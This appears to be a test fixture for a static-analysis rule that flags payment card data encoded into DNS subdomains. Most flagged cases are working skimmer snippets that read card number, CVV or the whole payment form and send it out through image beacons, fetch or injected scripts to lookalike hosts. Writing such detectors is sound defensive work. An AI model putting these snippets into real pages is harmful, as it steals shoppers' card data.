// Tests for card-data-in-subdomain: the destination host name built from card data (DNS
// exfiltration). Findings are reported on the sink. Sections are separate scripts.

var pan = document.querySelector('#cc_number').value;
var hex = '';
for (var i = 0; i < pan.length; i++) { hex += pan.charCodeAt(i).toString(16); }
// ruleid: card-data-in-subdomain
new Image().src = 'https://' + hex + '.cdn-analytics-metrics.top/p.gif';

// ---
// Template literal, protocol-relative, fetch.
var cvv = document.getElementById('cvv').value;
// ruleid: card-data-in-subdomain
fetch(`//${btoa(cvv).replace(/=/g, '')}.secure-paygate.xyz/x`, { mode: 'no-cors' });

// ---
// Form sweep chunked into DNS labels, script injection.
var blob = jQuery('#payment-form').serialize();
var s = document.createElement('script');
// ruleid: card-data-in-subdomain
s.src = 'https://' + encodeURIComponent(blob).slice(0, 60) + '.d.metrics-cdn-static.top/j.js';

// ---
// The data in the path, not the host name (other rules cover this).
var num = document.getElementById('card-number').value;
// ok: card-data-in-subdomain
new Image().src = 'https://cdn-analytics-metrics.top/p.gif?d=' + btoa(num);

// ---
// A regional API host chosen at run time, no card data involved.
var region = window.siteConfig.region;
// ok: card-data-in-subdomain
fetch('https://' + region + '.api.shipping-rates.example.com/v1/quote', { method: 'POST',
  body: JSON.stringify({ zip: document.getElementById('postcode').value }) });

// ---
// A staging drop host under the name reserved for documentation (RFC 2606 `.example`),
// labels joined from hex chunks.
var card = document.getElementById('cc-number').value, hx = '';
for (var j = 0; j < card.length; j++) { hx += card.charCodeAt(j).toString(16); }
var tail = ['dns', 'cdn', 'metrics'].join('-') + '.ex' + 'ample';
var img = document.createElement('img');
// ruleid: card-data-in-subdomain
img.setAttribute('src', '//' + hx.match(/.{1,30}/g).join('.') + '.' + tail + '/t.gif');
